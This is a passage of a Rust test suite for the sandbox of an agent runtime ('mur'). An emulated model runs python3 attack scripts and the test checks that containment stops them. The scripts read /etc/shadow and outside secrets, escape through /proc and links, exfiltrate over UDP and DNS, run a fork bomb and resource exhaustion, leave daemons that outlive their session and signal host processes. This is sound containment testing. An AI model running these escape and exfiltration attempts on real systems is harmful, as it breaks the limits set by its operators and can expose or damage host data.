//! The escape suite for native children: what a `shell` child (and an MCP stdio server) can
//! reach, tried as an attacker would, through the real `mur run`, per containment class, as
//! root and as an unprivileged user.
//!
//! One session runs every attack of a class: the capsule allows `python3` only
//! (`shell.allow: [python3]`), its `network.allow` names only the emulator's gateway, and the
//! model (the emulator) makes one `shell` call a turn, `python3 -c <attack>`, each printing one
//! line: `errno=EACCES`, `ok`, `sent`, ... The test reads each call's stdout from what the
//! model was handed back, the `shell` trace events (exit, `contained` counts) and the host's
//! own side (listeners that must hear nothing, files that must stay, processes that must be
//! gone). A second session per class kills `mur` with SIGKILL mid-call.
//!
//! The cases, each with its exact outcome under `scoped` (asserted in [`expected`]):
//!
//! - **files**: reading `/etc/shadow` and a file outside the workspace (`EACCES`), writing
//!   outside (`EACCES`, nothing written), a symlink out (made, read `EACCES`; made outside
//!   `EACCES`), a hard link and a rename across the workspace's boundary either way (`EXDEV`),
//!   re-opening through `/proc/self/cwd/..`, through an `O_PATH` descriptor of an outside
//!   directory (`/proc/self/fd/N/...` and `openat`), through `/proc/<mur>/root`, and an
//!   outside file's descriptor leaked into `mur` (the child has no such descriptor: `EBADF`;
//!   `/proc/<mur>/fd` is refused), `mknod` of a character device in the workspace (`EACCES`);
//! - **execution**: a non-allowlisted binary (`/usr/bin/bash`) by `execv` and by `subprocess`
//!   from the allowed interpreter, and a copy of `/bin/ls` saved as `./bash` and made
//!   executable (`EACCES`; `/bin/ls` is not readable under `scoped`, so the ELF loader is
//!   copied instead); the model naming `/usr/bin/bash` itself is refused before anything runs
//!   (`E-CAP-006`);
//! - **network**: TCP to another loopback host on the gateway's own port, directly
//!   (`ECONNREFUSED`; the test's listener there hears nothing) and through the egress proxy
//!   (`CONNECT` answered `403`, an `egress_refused` event naming `127.0.0.2` and the port), a
//!   UDP datagram to a test listener on 127.0.0.1 (it hears nothing) and a DNS query to the
//!   host's resolver (`ENETUNREACH`), a pathname Unix socket outside the workspace and an
//!   abstract one (`EACCES`: no `AF_UNIX` without `network.unix_sockets`; the listeners hear
//!   nothing), a raw ICMP socket (`EPERM`);
//! - **system calls**: `io_uring_setup`, `bpf`, `userfaultfd`, `keyctl`, `perf_event_open`,
//!   `open_by_handle_at` (`EPERM` each, and each counted on the `shell` event's `contained`);
//! - **resources** (`capabilities.resources`): a fork bomb (`max_processes: 32`: `EAGAIN`
//!   before 32, the call ends), a file past `file_size_bytes` (`EFBIG` at 1 MiB, `SIGXFSZ`
//!   ignored), a memory hog past `memory_bytes` (killed by the cgroup's OOM killer; where the
//!   trace says RLIMIT_AS stands in, `MemoryError`), an fd exhauster (`EMFILE` at descriptor
//!   63 of `open_files: 64`);
//! - **lifetime**: a `setsid` daemon started by a shell call (dead when its call ends: it
//!   ticks into the workspace, and no tick comes after the call's event) and by an MCP stdio
//!   server's tool (dead when `mur` ends), both again when `mur` is SIGKILLed mid-call;
//! - **signals**: SIGKILL to a host process (the test's own sleeper: `ESRCH`, it lives) and
//!   signal 0 to `mur` itself (`ESRCH`).
//!
//! `advisory` runs the same session and asserts today's weaker behaviour as it is (files
//! still refused by Landlock; bash runs, UDP and Unix sockets reach the host, the daemons
//! outlive their call and `mur`, the sleeper is killed, ...), so a change either way shows.
//! `sealed` is held to `scoped`'s outcomes, except that what is outside its composed root is
//! not there at all (`ENOENT`) and its fresh `/proc` shows no `mur`; on a host that cannot
//! compose its root it is asserted refused with `E-CAP-020`, as a run is.
//!
//! Every class runs as root and as the unprivileged user `murtest` (uid 1001, created when
//! missing) through `setpriv`. As that user `mknod` and raw ICMP fail even under `advisory`
//! for want of the capability (`EPERM`: they are root's attacks; asserted as such), the sleeper is
//! that user's own (so only containment stands between it and the child), and the outside
//! files are that user's (so only containment refuses them). Where the trace's
//! `session_start.containment` says a cgroup is not available (RLIMIT_NPROC and RLIMIT_AS
//! stand in), the memory hog's expected outcome follows it.
//!
//! Attacks learn `mur`'s host pid from `mur.pid`, which the test writes into the session's
//! workspace (the children's `.`) as soon as it exists (the worst case: an attacker who
//! guessed it).
//!
//! Not here (each with its own tests): the workdir's byte limit (`workdir_max_bytes`),
//! `mur eval`'s `commands` scorer running agent-written code (tests/eval.rs), and the agent
//! CLIs of `transport: process` writing their user's real config (tests/process_transport.rs).

use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use murmur_testkit::emulator::{Emulator, Reply, Script, Turn};
use murmur_testkit::{Mur, repo_root};
use serde_json::{Value, json};

const KEY: &str = "sk-emulator-native-escape-4e1f";
/// The descriptor an outside file is leaked into `mur` as.
const LEAK_FD: i32 = 200;
const MAX_PROCESSES: u32 = 32;
const MEMORY_BYTES: u64 = 128 << 20;
const OPEN_FILES: u32 = 64;
const FILE_SIZE_BYTES: u64 = 1 << 20;
/// How long the model waits before the turn after the daemon's call: a daemon that outlived
/// its call ticks all through it.
const AFTER_DAEMON_MS: u64 = 2000;
/// The unprivileged user the suite also runs as.
const TEST_USER: &str = "murtest";

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Class {
    Advisory,
    Scoped,
    Sealed,
}

impl Class {
    fn name(self) -> &'static str {
        match self {
            Class::Advisory => "advisory",
            Class::Scoped => "scoped",
            Class::Sealed => "sealed",
        }
    }
}

/// Who runs `mur`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Who {
    Root,
    Unprivileged,
}

/// How `mur` is started for `who`: `None` to run it as the test process itself, else the user
/// to switch to. `Err` says why this cannot run here.
fn runner(who: Who) -> Result<Option<(u32, u32)>, String> {
    // SAFETY: geteuid has no preconditions.
    let root = unsafe { libc::geteuid() } == 0;
    match (who, root) {
        (Who::Root, true) => Ok(None),
        (Who::Root, false) => Err("the test process is not root".to_string()),
        (Who::Unprivileged, false) => Ok(None),
        (Who::Unprivileged, true) => {
            let setpriv = std::process::Command::new("setpriv")
                .arg("--version")
                .output();
            if !setpriv.is_ok_and(|o| o.status.success()) {
                return Err("setpriv (util-linux) is missing".to_string());
            }
            let ids = |flag: &str| {
                std::process::Command::new("id")
                    .args([flag, TEST_USER])
                    .output()
                    .ok()
                    .filter(|o| o.status.success())
                    .and_then(|o| String::from_utf8_lossy(&o.stdout).trim().parse().ok())
            };
            if ids("-u").is_none() {
                let made = std::process::Command::new("useradd")
                    .args(["--no-create-home", "--shell", "/bin/sh", TEST_USER])
                    .status();
                // Another test may have made it meanwhile: only the lookup below decides.
                let _ = made;
            }
            match (ids("-u"), ids("-g")) {
                (Some(uid), Some(gid)) => Ok(Some((uid, gid))),
                _ => Err(format!("user {TEST_USER} is missing and could not be made")),
            }
        }
    }
}

/// `path` (and what is under it) made `owner`'s, so only containment stands between that
/// user and it.
fn give(path: &Path, owner: Option<(u32, u32)>) {
    let Some((uid, gid)) = owner else { return };
    let status = std::process::Command::new("chown")
        .arg("-R")
        .arg(format!("{uid}:{gid}"))
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success(), "chown {}", path.display());
}

/// A count of what reached one of the test's listeners.
#[derive(Clone, Default)]
struct Heard(Arc<AtomicUsize>);

impl Heard {
    fn count(&self) -> usize {
        self.0.load(Ordering::SeqCst)
    }
}

/// Accepts on `listener` for ever (until the test binary ends), counting connections.
fn count_tcp(listener: std::net::TcpListener) -> Heard {
    let heard = Heard::default();
    let counter = heard.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            counter.0.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    heard
}

fn count_unix(listener: std::os::unix::net::UnixListener) -> Heard {
    let heard = Heard::default();
    let counter = heard.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            counter.0.fetch_add(1, Ordering::SeqCst);
            drop(stream);
        }
    });
    heard
}

fn count_udp(socket: std::net::UdpSocket) -> Heard {
    let heard = Heard::default();
    let counter = heard.clone();
    std::thread::spawn(move || {
        let mut buffer = [0u8; 2048];
        while socket.recv_from(&mut buffer).is_ok() {
            counter.0.fetch_add(1, Ordering::SeqCst);
        }
    });
    heard
}

/// A unique marker for this test's processes and sockets.
fn marker(what: &str) -> String {
    static N: AtomicUsize = AtomicUsize::new(0);
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    format!(
        "murmur-escape-{what}-{}-{}-{nanos}",
        std::process::id(),
        N.fetch_add(1, Ordering::SeqCst)
    )
}

/// The host processes whose command line holds `marker`.
fn processes_marked(marker: &str) -> Vec<i32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        if String::from_utf8_lossy(&cmdline).contains(marker) && pid != std::process::id() as i32 {
            found.push(pid);
        }
    }
    found
}

/// Kills, when dropped, every host process marked with one of its markers: what a class that
/// lets daemons escape left behind.
struct Reaper(Vec<String>);

impl Drop for Reaper {
    fn drop(&mut self) {
        for marker in &self.0 {
            for pid in processes_marked(marker) {
                // SAFETY: a signal to a pid found marked by this test.
                unsafe { libc::kill(pid, libc::SIGKILL) };
            }
        }
    }
}

/// What the host offers the attacks: files outside the workspace, listeners that must hear
/// nothing, a sleeper that must live.
struct Bait {
    outside: tempfile::TempDir,
    secret: PathBuf,
    /// An outside file open in the test, leaked into `mur` as [`LEAK_FD`].
    leaked: std::fs::File,
    other_host: Heard,
    udp: Heard,
    udp_port: u16,
    unix_path: Heard,
    sock: PathBuf,
    unix_abstract: Heard,
    abstract_name: String,
    sleeper: std::process::Child,
    resolver: String,
}

impl Bait {
    /// `gateway_port`: the emulator's port on 127.0.0.1; the other host listens on
    /// 127.0.0.2 on the same port.
    fn new(gateway_port: u16, owner: Option<(u32, u32)>) -> Bait {
        let outside = tempfile::tempdir().unwrap();
        std::fs::set_permissions(outside.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let secret = outside.path().join("secret.txt");
        std::fs::write(&secret, "the outside secret").unwrap();
        let leaked_path = outside.path().join("leaked.txt");
        std::fs::write(&leaked_path, "the leaked secret").unwrap();
        std::fs::set_permissions(&leaked_path, std::fs::Permissions::from_mode(0o600)).unwrap();
        let sock = outside.path().join("host.sock");
        let unix_path = count_unix(std::os::unix::net::UnixListener::bind(&sock).unwrap());
        std::fs::set_permissions(&sock, std::fs::Permissions::from_mode(0o777)).unwrap();
        give(outside.path(), owner);
        let leaked = std::fs::File::open(&leaked_path).unwrap();
        let other_host = count_tcp(
            std::net::TcpListener::bind(("127.0.0.2", gateway_port))
                .expect("a listener on 127.0.0.2 at the gateway's port"),
        );
        let udp_socket = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        let udp_port = udp_socket.local_addr().unwrap().port();
        let udp = count_udp(udp_socket);
        let abstract_name = marker("abstract");
        let unix_abstract = {
            use std::os::linux::net::SocketAddrExt;
            let address =
                std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes())
                    .unwrap();
            count_unix(std::os::unix::net::UnixListener::bind_addr(&address).unwrap())
        };
        let mut sleeper = match owner {
            None => std::process::Command::new("sleep"),
            Some((uid, gid)) => {
                let mut command = std::process::Command::new("setpriv");
                command.args([
                    format!("--reuid={uid}"),
                    format!("--regid={gid}"),
                    "--clear-groups".to_string(),
                    "--".to_string(),
                    "sleep".to_string(),
                ]);
                command
            }
        };
        let sleeper = sleeper.arg("300").spawn().unwrap();
        let resolver = std::fs::read_to_string("/etc/resolv.conf")
            .unwrap_or_default()
            .lines()
            .find_map(|line| line.strip_prefix("nameserver "))
            .map(|s| s.trim().to_string())
            .filter(|s| s.parse::<std::net::Ipv4Addr>().is_ok())
            .unwrap_or_else(|| "192.0.2.53".to_string());
        Bait {
            outside,
            secret,
            leaked,
            other_host,
            udp,
            udp_port,
            unix_path,
            sock,
            unix_abstract,
            abstract_name,
            sleeper,
            resolver,
        }
    }

    fn sleeper_alive(&mut self) -> bool {
        self.sleeper.try_wait().unwrap().is_none()
    }
}

impl Drop for Bait {
    fn drop(&mut self) {
        let _ = self.sleeper.kill();
        let _ = self.sleeper.wait();
    }
}

/// What every attack script starts with: its constants and helpers.
fn prelude(bait: &Bait, gateway_port: u16, mark: &str) -> String {
    let q = |s: &str| serde_json::to_string(s).unwrap();
    format!(
        r#"import ctypes, errno, os, shutil, signal, socket, stat, subprocess, sys, time
SECRET = {secret}
OUT = {out}
LEAK = {leak}
GW = {gw}
UDP = {udp}
RESOLVER = {resolver}
SOCK = {sock}
ABSTRACT = {abstract_name}
SLEEPER = {sleeper}
MARK = {mark}
def named(x):
    if isinstance(x, OSError) and x.errno:
        return 'errno=' + errno.errorcode.get(x.errno, str(x.errno))
    return type(x).__name__
def attempt(f):
    try:
        r = f()
    except Exception as x:
        return named(x)
    return 'ok' if r is None else str(r)
def murs():
    # mur's host pid, written into the workspace by the test once mur started.
    return [open('mur.pid').read().strip()]
"#,
        secret = q(bait.secret.to_str().unwrap()),
        out = q(bait.outside.path().to_str().unwrap()),
        leak = LEAK_FD,
        gw = gateway_port,
        udp = bait.udp_port,
        resolver = q(&bait.resolver),
        sock = q(bait.sock.to_str().unwrap()),
        abstract_name = q(&bait.abstract_name),
        sleeper = bait.sleeper.id(),
        mark = q(mark),
    )
}

/// The daemon a shell call leaves: a tick (the time) appended to `argv[2]` every 100 ms, for
/// ever, saying `up` after the first; `argv[1]` is its marker.
const DAEMON: &str = r#"
DAEMON = '''
import sys, time
up = False
while True:
    with open(sys.argv[2], "a") as f:
        f.write("%f\\n" % time.time())
    if not up:
        print("up", flush=True)
        up = True
    time.sleep(0.1)
'''
def daemon():
    p = subprocess.Popen([sys.executable, '-c', DAEMON, MARK + '-shell', os.path.abspath('daemon.ticks')],
        start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    return 'spawned' if p.stdout.readline().strip() == b'up' else 'not-up'
"#;

/// The attacks, by name: each a script printing one line.
fn attacks() -> Vec<(&'static str, String)> {
    let plain = |name: &'static str, body: &str| (name, body.to_string());
    vec![
        plain(
            "read_shadow",
            "print(attempt(lambda: open('/etc/shadow').read(4) and 'read'))",
        ),
        plain(
            "read_outside",
            "print(attempt(lambda: open(SECRET).read() and 'read'))",
        ),
        plain(
            "write_outside",
            "print(attempt(lambda: open(OUT + '/written.txt', 'w').write('pwned') and 'written'))",
        ),
        plain(
            "symlink",
            "print('make=' + attempt(lambda: os.symlink(SECRET, 'link')), 'read=' + attempt(lambda: open('link').read() and 'read'), 'outside=' + attempt(lambda: os.symlink('x', OUT + '/link')))",
        ),
        plain(
            "hardlink",
            "open('mine', 'w').write('mine')\nprint('in=' + attempt(lambda: os.link(SECRET, 'hard')), 'out=' + attempt(lambda: os.link('mine', OUT + '/hard')))",
        ),
        plain(
            "rename",
            "open('mine2', 'w').write('mine')\nprint('in=' + attempt(lambda: os.rename(SECRET, 'stolen')), 'out=' + attempt(lambda: os.rename('mine2', OUT + '/moved')))",
        ),
        plain(
            "proc_self_cwd",
            "print(attempt(lambda: open('/proc/self/cwd/' + os.path.relpath(SECRET, os.getcwd())).read() and 'read'))",
        ),
        plain(
            "proc_self_fd",
            "fd = attempt(lambda: os.open(OUT, os.O_PATH))\nif fd.isdigit():\n    print('opath=ok', 'proc=' + attempt(lambda: open('/proc/self/fd/%s/secret.txt' % fd).read() and 'read'), 'at=' + attempt(lambda: os.open('secret.txt', os.O_RDONLY, dir_fd=int(fd)) and 'read'))\nelse:\n    print('opath=' + fd)",
        ),
        plain(
            "proc_mur_root",
            "def f():\n    pids = murs()\n    if not pids: return 'no-mur'\n    return open('/proc/%s/root%s' % (pids[0], SECRET)).read() and 'read'\nprint(attempt(f))",
        ),
        plain(
            "mur_fd",
            "def f():\n    pids = murs()\n    if not pids: return 'no-mur'\n    return 'list=' + attempt(lambda: os.listdir('/proc/%s/fd' % pids[0]) and 'listed') + ' open=' + attempt(lambda: open('/proc/%s/fd/%d' % (pids[0], LEAK)).read() and 'read')\nprint('direct=' + attempt(lambda: os.read(LEAK, 64) and 'read'), attempt(f))",
        ),
        plain(
            "mknod",
            "def f():\n    os.mknod('kmsg', 0o600 | stat.S_IFCHR, os.makedev(1, 11))\n    fd = os.open('kmsg', os.O_RDONLY | os.O_NONBLOCK)\n    return 'read' if os.read(fd, 256) else 'empty'\nprint(attempt(f))",
        ),
        plain(
            "exec_direct",
            "print(attempt(lambda: os.execv('/usr/bin/bash', ['bash', '-c', 'echo escaped'])))",
        ),
        plain(
            "exec_from_interpreter",
            "print(attempt(lambda: subprocess.run(['/usr/bin/bash', '-c', 'echo escaped'], capture_output=True, text=True).stdout.strip()))",
        ),
        plain(
            "exec_renamed_copy",
            "import glob\ndef copy():\n    tried = []\n    for name, src in [('ls', '/bin/ls')] + [('loader', p) for p in sorted(glob.glob('/lib64/ld-linux*'))]:\n        try:\n            data = open(src, 'rb').read()\n        except OSError as x:\n            tried.append(name + ':' + named(x))\n            continue\n        open('bash', 'wb').write(data)\n        return name\n    return ','.join(tried)\ncopied = copy()\nos.path.exists('bash') and os.chmod('bash', 0o755)\nprint('copy=' + copied, 'exec=' + attempt(lambda: subprocess.run(['./bash', '--version'], capture_output=True).returncode == 0 and 'ran'))",
        ),
        plain(
            "tcp_other_host",
            "print(attempt(lambda: socket.create_connection(('127.0.0.2', GW), timeout=5) and 'connected'))",
        ),
        plain(
            "proxy_other_host",
            "def f():\n    proxy = os.environ.get('HTTPS_PROXY')\n    if not proxy: return 'no-proxy'\n    host, port = proxy.rsplit('/', 1)[-1].rsplit(':', 1)\n    s = socket.create_connection((host, int(port)), timeout=5)\n    s.sendall(b'CONNECT 127.0.0.2:%d HTTP/1.1\\r\\nHost: 127.0.0.2:%d\\r\\n\\r\\n' % (GW, GW))\n    status = s.recv(4096).split(b'\\r\\n')[0].split()\n    return ('refused ' if status[1] != b'200' else 'tunnel ') + status[1].decode()\nprint(attempt(f))",
        ),
        plain(
            "udp",
            "def f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(b'exfil-udp', ('127.0.0.1', UDP))\n    return 'sent'\nprint(attempt(f))",
        ),
        plain(
            "dns",
            "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(l)]) + l for l in b'exfil-secret.example.com'.split(b'.')) + b'\\x00\\x00\\x01\\x00\\x01'\ndef f():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    s.sendto(q, (RESOLVER, 53))\n    return 'sent'\nprint(attempt(f))",
        ),
        plain(
            "unix_path",
            "print(attempt(lambda: socket.socket(socket.AF_UNIX).connect(SOCK) or 'connected'))",
        ),
        plain(
            "unix_abstract",
            "print(attempt(lambda: socket.socket(socket.AF_UNIX).connect('\\0' + ABSTRACT) or 'connected'))",
        ),
        plain(
            "syscalls",
            "libc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall.restype = ctypes.c_long\nout = []\nfor call, nr, args in (('io_uring_setup', 425, (1, 0)), ('bpf', 321, (0, 0, 0)), ('userfaultfd', 323, (0,)), ('keyctl', 250, (0, -4, 0)), ('perf_event_open', 298, (0, 0, -1, -1, 0)), ('open_by_handle_at', 304, (-100, 0, 0))):\n    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])\n    out.append(call + '=' + ('ok' if r >= 0 else errno.errorcode.get(ctypes.get_errno(), '?')))\nprint(' '.join(out))",
        ),
        plain(
            "fork_bomb",
            "def bomb():\n    n = 0\n    while n < 100:\n        try:\n            pid = os.fork()\n        except OSError as x:\n            return 'errno=%s forked=%d' % (errno.errorcode[x.errno], n)\n        if pid == 0:\n            os.close(1)\n            os.close(2)\n            time.sleep(60)\n            os._exit(0)\n        n += 1\n    return 'forked=%d' % n\nprint(bomb(), flush=True)",
        ),
        plain(
            "big_file",
            "signal.signal(signal.SIGXFSZ, signal.SIG_IGN)\ndef f():\n    with open('big.bin', 'wb', buffering=0) as out:\n        for i in range(64):\n            out.write(b'x' * 65536)\n    return 'wrote'\nr = attempt(f)\nprint(r, 'size=%d' % os.path.getsize('big.bin'))",
        ),
        plain(
            "memory_hog",
            "def f():\n    held = []\n    for i in range(16):\n        held.append(b'\\x01' * (32 << 20))\n        print('at=%d' % ((i + 1) * 32), file=sys.stderr, flush=True)\n    return 'allocated=%d' % (16 * 32)\nprint(attempt(f))",
        ),
        plain(
            "fd_exhaust",
            "def f():\n    last = -1\n    while last < 100000:\n        try:\n            last = os.open('.', os.O_RDONLY)\n        except OSError as x:\n            return 'errno=%s last=%d' % (errno.errorcode[x.errno], last)\n    return 'unbounded'\nprint(f())",
        ),
        ("setsid_daemon", format!("{DAEMON}\nprint(attempt(daemon))")),
        plain(
            "signal_host",
            "print(attempt(lambda: os.kill(SLEEPER, signal.SIGKILL)))",
        ),
        plain(
            "signal_mur",
            "print(attempt(lambda: os.kill(int(murs()[0]), 0)))",
        ),
        plain(
            "raw_icmp",
            "print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) and 'opened'))",
        ),
    ]
}

/// What the session ran under, as its trace says.
#[derive(Debug, Clone, Copy)]
struct Ran {
    class: Class,
    root: bool,
    /// A cgroup holds the resources (else RLIMIT_NPROC and RLIMIT_AS stand in).
    cgroups: bool,
}

/// The exact line attack `name` prints under `ran`; `None` for the cases checked by shape
/// ([`check_case`]).
fn expected(name: &str, ran: Ran) -> Option<String> {
    use Class::*;
    let Ran { class, root, .. } = ran;
    // What is not in a sealed root is not there at all.
    let absent = |held: &str| {
        if class == Sealed {
            "errno=ENOENT".to_string()
        } else {
            held.to_string()
        }
    };
    let line = match name {
        "read_shadow" => absent("errno=EACCES"),
        "read_outside" => absent("errno=EACCES"),
        "write_outside" => absent("errno=EACCES"),
        "symlink" => format!(
            "make=ok read={} outside={}",
            absent("errno=EACCES"),
            absent("errno=EACCES")
        ),
        // Advisory's Landlock refuses these too, by its own rights (EACCES); under scoped the
        // workspace is a mount of its own, so crossing it is EXDEV first.
        "hardlink" => match class {
            Advisory => "in=errno=EXDEV out=errno=EACCES".to_string(),
            _ => format!("in={} out={}", absent("errno=EXDEV"), absent("errno=EXDEV")),
        },
        "rename" => match class {
            Advisory => "in=errno=EACCES out=errno=EACCES".to_string(),
            _ => format!("in={} out={}", absent("errno=EXDEV"), absent("errno=EXDEV")),
        },
        "proc_self_cwd" => absent("errno=EACCES"),
        "proc_self_fd" => match class {
            Sealed => "opath=errno=ENOENT".to_string(),
            _ => "opath=ok proc=errno=EACCES at=errno=EACCES".to_string(),
        },
        // `mur`'s own pid, as the host numbers it: a fresh /proc (sealed) has no such entry.
        "proc_mur_root" => absent("errno=EACCES"),
        "mur_fd" => format!(
            "direct=errno=EBADF list={} open={}",
            absent("errno=EACCES"),
            absent("errno=EACCES")
        ),
        "mknod" => match (class, root) {
            (Advisory, true) => "read".to_string(),
            (Advisory, false) => "errno=EPERM".to_string(),
            _ => "errno=EACCES".to_string(),
        },
        "exec_direct" | "exec_from_interpreter" => match class {
            Advisory => "escaped".to_string(),
            Scoped => "errno=EACCES".to_string(),
            Sealed => "errno=ENOENT".to_string(),
        },
        // `/bin/ls` is not readable under scoped: the attack copies the ELF loader instead.
        "exec_renamed_copy" => match class {
            Advisory => "copy=ls exec=ran".to_string(),
            _ => "copy=loader exec=errno=EACCES".to_string(),
        },
        "tcp_other_host" => match class {
            Advisory => "connected".to_string(),
            _ => "errno=ECONNREFUSED".to_string(),
        },
        // Advisory gives no proxy; scoped's refuses the host it does not list (403).
        "proxy_other_host" => match class {
            Advisory => "no-proxy".to_string(),
            _ => "refused 403".to_string(),
        },
        "udp" => "sent".to_string(),
        "dns" => match class {
            Advisory => "sent".to_string(),
            _ => "errno=ENETUNREACH".to_string(),
        },
        "unix_path" | "unix_abstract" => match class {
            Advisory => "connected".to_string(),
            _ => "errno=EACCES".to_string(),
        },
        "syscalls" => match class {
            Advisory => return None,
            _ => "io_uring_setup=EPERM bpf=EPERM userfaultfd=EPERM keyctl=EPERM \
                  perf_event_open=EPERM open_by_handle_at=EPERM"
                .to_string(),
        },
        "big_file" => "errno=EFBIG size=1048576".to_string(),
        "fd_exhaust" => format!("errno=EMFILE last={}", OPEN_FILES - 1),
        "setsid_daemon" => "spawned".to_string(),
        "signal_host" => match class {
            Advisory => "ok".to_string(),
            _ => "errno=ESRCH".to_string(),
        },
        // Signal 0 to `mur` itself: permitted and delivered would be SIGKILL's way too.
        "signal_mur" => match class {
            Advisory => "ok".to_string(),
            _ => "errno=ESRCH".to_string(),
        },
        "raw_icmp" => match (class, root) {
            (Advisory, true) => "opened".to_string(),
            _ => "errno=EPERM".to_string(),
        },
        _ => return None,
    };
    Some(line)
}

/// One session's capsule: its folder, its emulator, the host's bait.
struct Session {
    dir: tempfile::TempDir,
    emulator: Emulator,
    bait: Bait,
    task: String,
    mark: String,
    owner: Option<(u32, u32)>,
    class: Class,
    _reaper: Reaper,
}

/// What the suite runs, where any user can reach it: the repository may sit beneath a
/// directory only its owner may enter (a checkout under `/root`, say), so the `mur` binary,
/// the MCP server and the unprivileged user's home live in a directory of their own: one per
/// checkout (named by its path), refreshed once per test process.
struct Reachable {
    dir: PathBuf,
    mur: PathBuf,
    servers: PathBuf,
}

fn reachable() -> &'static Reachable {
    static REACHABLE: std::sync::OnceLock<Reachable> = std::sync::OnceLock::new();
    REACHABLE.get_or_init(|| {
        use std::hash::{Hash, Hasher};
        use std::os::unix::fs::PermissionsExt;
        let mut checkout = std::collections::hash_map::DefaultHasher::new();
        repo_root().hash(&mut checkout);
        let dir = std::env::temp_dir().join(format!("murmur-escape-{:016x}", checkout.finish()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        // Copied beside, then renamed over: a binary another run still executes is replaced,
        // never written into.
        let mur = dir.join("mur");
        let copy = dir.join(format!("mur.{}", std::process::id()));
        std::fs::copy(env!("CARGO_BIN_EXE_mur"), &copy).unwrap();
        std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).unwrap();
        std::fs::rename(&copy, &mur).unwrap();
        let servers = dir.join("servers");
        std::fs::create_dir_all(&servers).unwrap();
        std::fs::set_permissions(&servers, std::fs::Permissions::from_mode(0o755)).unwrap();
        let server = servers.join("daemon_server.py");
        std::fs::copy(
            repo_root().join("tests/python/mcp/daemon_server.py"),
            &server,
        )
        .unwrap();
        std::fs::set_permissions(&server, std::fs::Permissions::from_mode(0o644)).unwrap();
        Reachable { dir, mur, servers }
    })
}

/// The MCP entry of the capsule: `tests/python/mcp/daemon_server.py` under the host's
/// `python3`, marked `mark`.
fn mcp_entry(mark: &str) -> String {
    let servers = &reachable().servers;
    format!(
        "  - name: spawner\n    runtime: mcp\n    server: {{ command: python3, args: [ \"{}\", \"{mark}-mcp\" ], timeout_seconds: 60 }}\n",
        servers.join("daemon_server.py").display()
    )
}

impl Session {
    /// A capsule on an emulator playing the script `turns` makes of the attacks' prelude,
    /// to run under `class` as `owner`.
    fn new(class: Class, owner: Option<(u32, u32)>, turns: impl FnOnce(&str) -> Script) -> Session {
        // The bait listens on 127.0.0.2 at the gateway's port, and the script names the
        // bait: the port is chosen first, the emulator takes it last.
        let port = murmur_testkit::free_port();
        let task = marker("task");
        let mark = marker("daemon");
        let bait = Bait::new(port, owner);
        let script = turns(&prelude(&bait, port, &mark));
        let emulator = Emulator::builder(script)
            .api_key(KEY)
            .port(port)
            .start()
            .expect("the emulator on its port");
        let dir = tempfile::tempdir().unwrap();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let servers = &reachable().servers;
        // The driver is copied in: the built component may be readable by its builder only.
        let driver = dir.path().join("driver-anthropic");
        std::fs::create_dir(&driver).unwrap();
        for file in ["murmur.yaml", "component.wasm"] {
            std::fs::copy(
                repo_root().join("artifacts/driver-anthropic").join(file),
                driver.join(file),
            )
            .expect("the driver's component: run ./scripts/setup");
        }
        let manifest = format!(
            r#"name: escaper
version: "0.1.0"
artifacts:
  - name: driver-anthropic
    version: "0.1.0"
    runtime: driver
    path: {driver}
    gateway: {{ endpoint: "{endpoint}", api_key: "${{EMU_KEY}}" }}
{mcp}
capabilities:
  shell: {{ allow: [ python3 ] }}
  network: {{ allow: [ "{endpoint}" ] }}
  filesystem: {{ read_only: [ "{servers}" ] }}
  env: {{ allow: [ LANG ] }}
  resources: {{ max_processes: {MAX_PROCESSES}, memory_bytes: {MEMORY_BYTES}, open_files: {OPEN_FILES}, file_size_bytes: {FILE_SIZE_BYTES} }}
inference:
  model: test-model
  max_turns: 64
  driver: {{ artifact: driver-anthropic }}
"#,
            driver = driver.display(),
            endpoint = emulator.url(),
            mcp = mcp_entry(&mark),
            servers = servers.display(),
        );
        std::fs::write(dir.path().join("murmur.yaml"), manifest).unwrap();
        std::fs::create_dir(dir.path().join("work")).unwrap();
        give(dir.path(), owner);
        let reaper = Reaper(vec![format!("{mark}-shell"), format!("{mark}-mcp")]);
        Session {
            dir,
            emulator,
            bait,
            task,
            mark,
            owner,
            class,
            _reaper: reaper,
        }
    }

    /// `mur run` of this capsule, `LEAK_FD` open on the leaked file.
    fn command(&self) -> std::process::Command {
        let mut mur = match self.owner {
            None => Mur::new(env!("CARGO_BIN_EXE_mur")),
            Some((uid, gid)) => {
                let home = user_home(uid, gid);
                Mur::as_user(&reachable().mur, uid, gid)
                    .env("HOME", &home)
                    .env("MURMUR_HOME", home.join("murmur"))
            }
        };
        mur = mur
            .env("EMU_KEY", KEY)
